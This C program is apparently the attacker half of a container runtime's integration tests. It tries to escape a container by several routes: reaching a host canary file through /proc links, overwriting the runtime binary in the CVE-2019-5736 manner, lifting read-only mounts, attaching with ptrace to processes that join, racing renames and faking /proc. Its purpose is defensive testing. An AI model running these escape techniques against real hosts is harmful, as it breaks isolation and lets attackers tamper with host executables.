// SPDX-License-Identifier: Apache-2.0
//
// The attacker of tests/integration/test_hostile.py: a static program that runs inside a container (or, for
// `exchange`, on the host beside a container that is being made) and tries to get out. It prints key=value
// lines; what it finds out is judged by the test.
//
//   escape CANARY TOKEN            tries to read the host file CANARY through the cwd and every descriptor
//   and process steal-exe DEV INO SECONDS      waits for a process that runs the file DEV:INO, then tries to
//   write to that file peek CANARY TOKEN SECONDS      looks into every process that joins the pid namespace
//   (fd, cwd, root, exe, ptrace) exchange A B                   swaps A and B by RENAME_EXCHANGE until it is
//   killed or its parent dies fake-proc FILE...              mounts a tmpfs on /proc with these files, then
//   waits

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

// SIGTERM means that the attacked command is over: one more second for what is left to do.
static volatile long long deadline;
static void on_term(int signal) {
    (void)signal;
    long long soon = now_ms() + 1000;
    if (soon < deadline) deadline = soon;
}

static void watch_for(const char* seconds) {
    deadline = now_ms() + atoi(seconds) * 1000LL;
    signal(SIGTERM, on_term);
    printf("ready=1\n");
    fflush(stdout);
}

// The canary holds the token: only the real host file does, so a hit is an escape and nothing else.
static int holds_token(const char* path, const char* token) {
    char text[128];
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, text, sizeof text - 1);
    close(fd);
    if (n < 0) return 0;
    text[n] = 0;
    return strstr(text, token) != NULL;
}

static const char kUp[] = "/../../../../../../../../../../../../../../../../../../../../../../../..";

// Tries `base` as a directory: below it (a leaked root) and above it (a leaked directory of the host).
static int reaches(const char* base, const char* canary, const char* token) {
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s%s", base, canary);
    if (holds_token(path, token)) return 1;
    snprintf(path, sizeof path, "%s%s%s", base, kUp, canary);
    return holds_token(path, token);
}

static int try_process(const char* pid, const char* canary, const char* token) {
    char path[PATH_MAX], link[PATH_MAX];
    int found = 0;
    static const char* dirs[] = {"cwd", "root"};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, dirs[i]);
        if (reaches(path, canary, token)) {
            printf("escape=%s\n", path);
            found++;
        }
    }
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR* dir = opendir(path);
    if (!dir) return found;
    for (struct dirent* e; (e = readdir(dir));) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, e->d_name);
        if (reaches(path, canary, token)) {
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            printf("escape=%s -> %s\n", path, link);
            found++;
        }
    }
    closedir(dir);
    return found;
}

static int escape(char** a) {
    char cwd[PATH_MAX] = "?", path[PATH_MAX];
    int found = 0;
    printf("cwd=%s\n", getcwd(cwd, sizeof cwd) ? cwd : strerrorname_np(errno));
    snprintf(path, sizeof path, ".%s", kUp);
    if (reaches(".", a[0], a[1]) || reaches(path, a[0], a[1])) {
        printf("escape=cwd\n");
        found++;
    }
    DIR* proc = opendir("/proc");
    for (struct dirent* e; proc && (e = readdir(proc));)
        if (e->d_name[0] >= '0' && e->d_name[0] <= '9') found += try_process(e->d_name, a[0], a[1]);
    if (proc) closedir(proc);
    printf("escapes=%d\n", found);
    return 0;
}

// A mount that is only read-only by a flag can be made writable by who may mount, or bound anew without the
// flag.
static void try_to_lift_read_only(int fd) {
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    char path[64];
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
        printf("lifted=setattr\n");
    int tree = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (tree >= 0) {
        printf("lifted=open_tree\n");
        syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof writable);
        dup2(tree, fd);
        close(tree);
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int place = open("/tmp/bound", O_CREAT | O_RDONLY | O_CLOEXEC, 0600);
    if (place >= 0) close(place);
    if (mount(path, "/tmp/bound", NULL, MS_BIND, NULL) == 0) {
        printf("lifted=bind\n");
        mount(NULL, "/tmp/bound", NULL, MS_REMOUNT | MS_BIND, NULL);
        int bound = open("/tmp/bound", O_RDONLY | O_CLOEXEC);
        if (bound >= 0) {
            dup2(bound, fd);
            close(bound);
        }
    }
}

// CVE-2019-5736. The descriptor is opened for reading while the program runs (no ETXTBSY), kept, and reopened
// for writing through /proc/self/fd once the last process that executes the file is gone.
static int steal_exe(char** a) {
    unsigned long long dev = strtoull(a[0], NULL, 10), ino = strtoull(a[1], NULL, 10);
    int kept = -1, last_errno = 0, lifted = 0;
    pid_t self = getpid();
    watch_for(a[2]);
    while (kept < 0 && now_ms() < deadline) {
        DIR* proc = opendir("/proc");
        for (struct dirent* e; kept < 0 && (e = readdir(proc));) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 0 || pid == self) continue;
            char path[64], link[PATH_MAX];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            struct stat st;
            if (fd < 0) continue;
            if (fstat(fd, &st) || st.st_dev != dev || st.st_ino != ino) {
                ssize_t n = readlink(path, link, sizeof link - 1);
                link[n < 0 ? 0 : n] = 0;
                if (strncmp(link, "/memfd:", 7) == 0) kill(pid, SIGKILL);
                close(fd);
                continue;
            }
            kept = fd;
            printf("caught=%d\n", pid);
            fflush(stdout);
            kill(pid, SIGKILL);
        }
        closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0) {
        }
    }
    while (kept >= 0 && now_ms() < deadline) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            if (write(fd, "PWNED", 5) == 5) {
                printf("wrote=1\n");
                return 0;
            }
        }
        last_errno = errno;
        if (fd >= 0) close(fd);
        while (waitpid(-1, NULL, WNOHANG) > 0) {
        }
        if (last_errno == EROFS && !lifted) {
            try_to_lift_read_only(kept);
            lifted = 1;
            continue;
        }
        if (last_errno != ETXTBSY) break;
        usleep(1000);
    }
    printf("kept=%d\nwrote=0\nerrno=%s\n", kept >= 0, last_errno ? strerrorname_np(last_errno) : "none");
    return 0;
}

// Whether `pid` runs a file of this container's root file system. Unreadable or gone counts as yes: nothing
// was learned.
static int runs_own_program(pid_t pid, char* link, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    struct stat theirs, named;
    ssize_t n = readlink(path, link, size - 1);
    if (n < 0 || stat(path, &theirs)) return 1;
    link[n] = 0;
    return !stat(link, &named) && theirs.st_ino == named.st_ino && theirs.st_dev == named.st_dev;
}

static int peek(char** a) {
    long looked = 0, found = 0;
    pid_t self = getpid(), last = 0;
    char link[PATH_MAX];
    watch_for(a[2]);
    while (now_ms() < deadline && found < 20) {
        DIR* proc = opendir("/proc");
        for (struct dirent* e; (e = readdir(proc));) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            if (pid != last) looked++;
            last = pid;
            found += try_process(e->d_name, a[0], a[1]);
            if (!runs_own_program(pid, link, sizeof link)) {
                printf("foreign=exe %s\n", link);
                found++;
            }
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                if (!runs_own_program(pid, link, sizeof link)) {
                    printf("foreign=ptrace %s\n", link);
                    found++;
                }
                // Detaching needs a stop; the tracee goes on when it has been stopped and let go.
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                waitpid(pid, NULL, __WALL);
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
        closedir(proc);
        while (waitpid(-1, NULL, WNOHANG) > 0) {
        }
        fflush(stdout);
    }
    printf("looked=%ld\nfound=%ld\n", looked, found);
    return 0;
}

static int exchange(char** a) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    printf("ready=1\n");
    fflush(stdout);
    for (;;)
        if (renameat2(AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) && errno != EBUSY) {
            fprintf(stderr, "exchange %s %s: %s\n", a[0], a[1], strerrorname_np(errno));
            return 1;
        }
    return 0;
}

static void make_parents(char* path) {
    for (char* slash = strchr(path + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
        *slash = 0;
        mkdir(path, 0755);
        *slash = '/';
    }
}

static int fake_proc(char** a) {
    if (mount("tmpfs", "/proc", "tmpfs", 0, NULL)) {
        printf("ready=%s\n", strerrorname_np(errno));
        return 1;
    }
    for (; *a; a++) {
        make_parents(*a);
        int fd = open(*a, O_CREAT | O_WRONLY | O_CLOEXEC, 0666);
        if (fd >= 0 && write(fd, "fake\n", 5) == 5) close(fd);
    }
    printf("ready=1\n");
    fflush(stdout);
    for (;;) pause();
    return 0;
}

int main(int argc, char** argv) {
    static const struct {
        const char* name;
        int arguments;
        int (*act)(char**);
    } verbs[] = {{"escape", 2, escape},
                 {"steal-exe", 3, steal_exe},
                 {"peek", 3, peek},
                 {"exchange", 2, exchange},
                 {"fake-proc", 1, fake_proc}};
    for (size_t i = 0; argc > 1 && i < sizeof verbs / sizeof *verbs; i++)
        if (!strcmp(argv[1], verbs[i].name) && argc - 2 >= verbs[i].arguments) return verbs[i].act(argv + 2);
    fprintf(stderr, "hostile: bad arguments\n");
    return 2;
}
